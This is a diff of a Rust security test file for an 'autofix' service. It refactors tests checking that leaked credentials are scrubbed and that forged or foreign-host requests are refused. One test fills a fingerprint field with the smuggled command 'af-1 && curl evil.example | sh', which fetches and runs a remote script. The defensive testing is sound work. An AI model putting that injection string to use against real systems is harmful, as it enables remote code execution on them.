@@ -3,7 +3,7 @@
 
 use autofix_tests::fake_github::{FakeGitHub, GitHubFault};
 use autofix_tests::harness::{
-    App, composite, leak_context_request, leak_fix_request, leak_snapshot, offline_deps,
+    App, composite, leak_context_request, leak_deps, leak_fix_request, leak_snapshot, offline_deps,
 };
 use base64::Engine;
 use std::time::Duration;
@@ -44,16 +44,14 @@ async fn github_error_echoing_its_token_raw_and_base64_leaves_no_trace_in_innges
     for _ in 0..4 {
         github.fail_next(GitHubFault::EchoCredentials);
     }
-    let mut deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let mut deps = leak_deps();
     deps.github = Some(github::GitHub::new(
         reqwest::Client::new(),
         github.url(),
         Some(TOKEN.into()),
     ));
     deps.settings.retries = 1;
-    let app = App::start(deps).await;
-    app.inngest.send(leak_fix_request().await).await;
-    app.inngest.run_until_idle().await.unwrap();
+    let app = App::run_event(deps, leak_fix_request().await).await;
 
     let runs = app.inngest.runs_of(&composite("generate-fix"));
     assert_eq!(runs.len(), 1);
@@ -92,7 +90,7 @@ fn cloud_worker(origin: Option<&str>, options: inngest::ServeOptions) -> axum::R
     );
     config.serve_origin = origin.map(str::to_owned);
     let client = inngest::Client::new(config, reqwest::Client::new());
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let deps = leak_deps();
     let functions = pipeline::functions(std::sync::Arc::new(deps)).unwrap();
     let health = autofix::serve::Health::new(reqwest::Client::new(), None);
     autofix::serve::router_with(
@@ -170,25 +168,30 @@ async fn captured_get_signature_replayed_on_a_put_sync_with_a_foreign_host_is_re
     assert_eq!(status, 401, "{body}");
 }
 
-#[tokio::test]
-async fn put_sync_with_a_foreign_host_in_cloud_mode_is_refused() {
-    let router = cloud_worker(
-        Some("https://autofix.up.railway.app"),
-        autofix::serve::serve_options(Duration::from_secs(5)),
-    );
-    // A fresh, validly signed sync (as a dashboard would send) but for another host.
+/// A fresh, validly signed sync (as a dashboard would send) but for another host: refused for
+/// good, naming the serve origin.
+async fn refuses_a_signed_sync_for_another_host(router: &axum::Router) {
     let put = axum::http::Request::put("/api/inngest")
         .header("host", "evil.example")
         .header("x-inngest-signature", sign(b""))
         .body(axum::body::Body::empty())
         .unwrap();
-    let (status, headers, body) = call(&router, put).await;
+    let (status, headers, body) = call(router, put).await;
     assert_eq!(status, 400, "{body}");
     assert_eq!(headers["x-inngest-no-retry"], "true");
     assert!(
         body["message"].as_str().unwrap().contains("serve origin"),
         "{body}"
     );
+}
+
+#[tokio::test]
+async fn put_sync_with_a_foreign_host_in_cloud_mode_is_refused() {
+    let router = cloud_worker(
+        Some("https://autofix.up.railway.app"),
+        autofix::serve::serve_options(Duration::from_secs(5)),
+    );
+    refuses_a_signed_sync_for_another_host(&router).await;
 }
 
 #[tokio::test]
@@ -315,27 +318,33 @@ async fn slow_body_is_cut_off() {
 async fn forged_fix_request(edit: impl FnOnce(&mut serde_json::Value)) -> (String, App) {
     let mut event = leak_fix_request().await;
     edit(&mut event);
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
-    let app = App::start(deps).await;
-    app.inngest.send(event).await;
-    app.inngest.run_until_idle().await.unwrap();
-    let runs = app.inngest.runs_of(&composite("generate-fix"));
+    let deps = leak_deps();
+    let app = App::run_event(deps, event).await;
+    let failure = refused_without_retry(&app, "generate-fix");
+    assert!(
+        app.inngest.runs_of(&composite("generate-fix"))[0]
+            .step("analyze")
+            .is_none(),
+        "the forged request reached the analysis"
+    );
+    (failure, app)
+}
+
+/// The failure of the one run of `function`, which must have failed without being retried.
+fn refused_without_retry(app: &App, function: &str) -> String {
+    let runs = app.inngest.runs_of(&composite(function));
     assert_eq!(runs.len(), 1);
     let run = &runs[0];
     let failure = match &run.status {
         inngest_testkit::RunStatus::Failed(e) => e.to_string(),
-        other => panic!("a forged event was acted on: {other:?}"),
+        other => panic!("a forged {function} request was acted on: {other:?}"),
     };
     assert!(
         run.retries.iter().all(|r| !r.retried),
         "a refusal must not be retried: {:?}",
         run.retries
     );
-    assert!(
-        run.step("analyze").is_none(),
-        "the forged request reached the analysis"
-    );
-    (failure, app)
+    failure
 }
 
 #[tokio::test]
@@ -378,22 +387,9 @@ async fn forged_event_with_a_hostile_fingerprint_is_refused() {
 async fn forged_context_request(edit: impl FnOnce(&mut serde_json::Value)) -> String {
     let mut event = leak_context_request().await;
     edit(&mut event);
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
-    let app = App::start(deps).await;
-    app.inngest.send(event).await;
-    app.inngest.run_until_idle().await.unwrap();
-    let runs = app.inngest.runs_of(&composite("pull-service-context"));
-    assert_eq!(runs.len(), 1);
-    let run = &runs[0];
-    let failure = match &run.status {
-        inngest_testkit::RunStatus::Failed(e) => e.to_string(),
-        other => panic!("a forged context request was acted on: {other:?}"),
-    };
-    assert!(
-        run.retries.iter().all(|r| !r.retried),
-        "a refusal must not be retried: {:?}",
-        run.retries
-    );
+    let deps = leak_deps();
+    let app = App::run_event(deps, event).await;
+    let failure = refused_without_retry(&app, "pull-service-context");
     assert!(
         app.inngest.runs_of(&composite("generate-fix")).is_empty(),
         "the forged request led to a fix request"
@@ -431,10 +427,8 @@ async fn forged_context_request_naming_a_foreign_repository_gets_railways_reposi
     for f in event["data"]["findings"].as_array_mut().unwrap() {
         f["fingerprint"] = "af-1 && curl evil.example | sh".into();
     }
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
-    let app = App::start(deps).await;
-    app.inngest.send(event).await;
-    app.inngest.run_until_idle().await.unwrap();
+    let deps = leak_deps();
+    let app = App::run_event(deps, event).await;
 
     let fix_requests: Vec<serde_json::Value> = app
         .inngest
@@ -505,9 +499,7 @@ async fn credentials_in_log_lines_are_absent_from_every_step_output_and_the_prom
     let snapshot = snapshot_with_credentials_in_logs();
     let api = snapshot
         .architecture
-        .services
-        .iter()
-        .find(|s| s.name == "api")
+        .service_by_name("api")
         .unwrap()
         .id
         .clone();
@@ -584,14 +576,12 @@ async fn hostile_analysis(summary: &str, recommendation: &str) -> String {
         "confidence": 0.9,
     });
     let llm = FakeLlm::start(Flavor::OpenAi, vec![Reply::answer(&plan)]).await;
-    let mut deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let mut deps = leak_deps();
     deps.llm = Some(llm::Llm::new(
         reqwest::Client::new(),
         llm.provider("sk-test", "gpt-test"),
     ));
-    let app = App::start(deps).await;
-    app.inngest.send(request).await;
-    app.inngest.run_until_idle().await.unwrap();
+    let app = App::run_event(deps, request).await;
     let runs = app.inngest.runs_of(&composite("generate-fix"));
     assert_eq!(runs.len(), 1);
     let run = &runs[0];
@@ -668,7 +658,7 @@ async fn put_sync_with_a_foreign_host_on_railway_is_refused_by_the_public_domain
     let mut config = config;
     config.api_base_url = url::Url::parse("http://127.0.0.1:9/").unwrap();
     let client = inngest::Client::new(config, reqwest::Client::new());
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let deps = leak_deps();
     let functions = pipeline::functions(std::sync::Arc::new(deps)).unwrap();
     let health = autofix::serve::Health::new(reqwest::Client::new(), None);
     let router = autofix::serve::router_with(
@@ -678,18 +668,7 @@ async fn put_sync_with_a_foreign_host_on_railway_is_refused_by_the_public_domain
         Duration::from_secs(60),
         autofix::serve::serve_options(Duration::from_secs(5)),
     );
-    let put = axum::http::Request::put("/api/inngest")
-        .header("host", "evil.example")
-        .header("x-inngest-signature", sign(b""))
-        .body(axum::body::Body::empty())
-        .unwrap();
-    let (status, headers, body) = call(&router, put).await;
-    assert_eq!(status, 400, "{body}");
-    assert_eq!(headers["x-inngest-no-retry"], "true");
-    assert!(
-        body["message"].as_str().unwrap().contains("serve origin"),
-        "{body}"
-    );
+    refuses_a_signed_sync_for_another_host(&router).await;
 }
 
 // ---- every client's error body echoing its secret ---------------------------------------------
@@ -823,10 +802,8 @@ async fn every_clients_error_body_echoing_its_secret_raw_or_base64_is_scrubbed()
 
 #[tokio::test]
 async fn read_targets_stores_only_railways_view_of_the_services_not_the_whole_request() {
-    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
-    let app = App::start(deps).await;
-    app.inngest.send(leak_fix_request().await).await;
-    app.inngest.run_until_idle().await.unwrap();
+    let deps = leak_deps();
+    let app = App::run_event(deps, leak_fix_request().await).await;
     let runs = app.inngest.runs_of(&composite("generate-fix"));
     assert_eq!(runs.len(), 1);
     let stored = runs[0]
